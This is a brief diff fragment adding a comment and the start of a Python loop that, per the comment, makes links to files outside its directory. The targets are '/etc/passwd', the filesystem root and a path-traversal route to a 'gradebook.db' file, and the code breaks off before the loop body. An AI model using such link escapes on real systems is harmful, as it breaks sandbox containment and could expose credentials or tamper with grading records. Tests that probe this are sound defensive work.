@@ -1,3 +1,4 @@
+# makes links to files outside
 import os
 for target in ("/etc/passwd", "/", "../../../gradebook.db"):
     try:
